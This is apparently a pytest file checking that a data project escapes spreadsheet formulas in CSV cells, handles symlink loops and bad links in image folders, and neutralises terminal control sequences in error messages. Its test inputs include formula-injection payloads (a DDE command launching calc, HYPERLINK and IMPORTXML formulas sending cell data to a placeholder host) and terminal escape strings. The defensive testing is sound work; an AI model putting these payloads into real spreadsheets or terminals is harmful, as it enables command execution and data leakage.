"""Names and cells of strangers: formulas in tables, links and loops in folders."""

import csv
import os

import pytest

from datamodules.sources import ImageFolder
from datamodules.sources.files import files_below
from foundation.errors import UserError
from foundation.exit_codes import print_errors
from recipes.predict.table import safe_cell
from tests.support.command import write_pictures

FORMULAS = {
    "equals": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "wide equals": "＝1+1",
    "wide plus": "＋1+1",
    "wide minus": "－1+1",
    "wide at": "＠SUM(A1)",
    "link": '=HYPERLINK("http://x/?"&A1,"y")',
    "import": '=IMPORTXML("http://x","//a")',
    "number and more": "-1 =2",
    "newline after a number": "-1\n",
}


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_begins_a_formula(text, tmp_path):
    path = tmp_path / "table.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerow([safe_cell(text), "next"])
    with path.open(newline="", encoding="utf-8") as file:
        (row,) = csv.reader(file)
    assert row == [f"'{text}", "next"]


@pytest.mark.parametrize("text", ["-1", "+2.5", "-1e-3", "cat", "a=b", "'=1"])
def test_numbers_and_words_stay_as_they_are(text):
    assert safe_cell(text) == text


def test_a_loop_of_links_ends(tmp_path):
    write_pictures(tmp_path / "a", 2, side=8)
    (tmp_path / "a" / "again").symlink_to(tmp_path / "a", target_is_directory=True)
    (tmp_path / "a" / "up").symlink_to(tmp_path, target_is_directory=True)
    assert len(files_below(tmp_path / "a", {".png"})) == 2


@pytest.mark.parametrize("kind", ["to itself", "to nothing", "to a device", "to a pipe"])
def test_a_link_to_no_file_is_refused(kind, tmp_path):
    for name in ("cat", "owl"):
        write_pictures(tmp_path / name, 5, side=8)
    link = tmp_path / "cat" / "x.png"
    target = {"to itself": link, "to nothing": tmp_path / "gone", "to a device": "/dev/zero"}
    if kind == "to a pipe":
        os.mkfifo(tmp_path / "pipe")
    link.symlink_to(target.get(kind, tmp_path / "pipe"))
    with pytest.raises(UserError, match=r"x\.png") as caught:
        ImageFolder(size=8).load(tmp_path)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("name", "shown"),
    {
        "\x1b[2J\x1b]0;title\x07cat": r"\x1b[2J\x1b]0;title\x07cat",
        "cat\rerror: none": r"cat\rerror: none",
        "cat\x85dog\u2028owl": r"cat\x85dog\u2028owl",
        "tac\u202e": r"tac\u202e",
        "\x9b31mcat": r"\x9b31mcat",
        "Käse 猫 ±": "Käse 猫 ±",
    }.items(),
)
def test_a_terminal_obeys_no_name(name, shown, capsys):
    print_errors([UserError(f"data: class '{name}' is unknown")])
    assert capsys.readouterr().err == f"error: data: class '{shown}' is unknown\n"
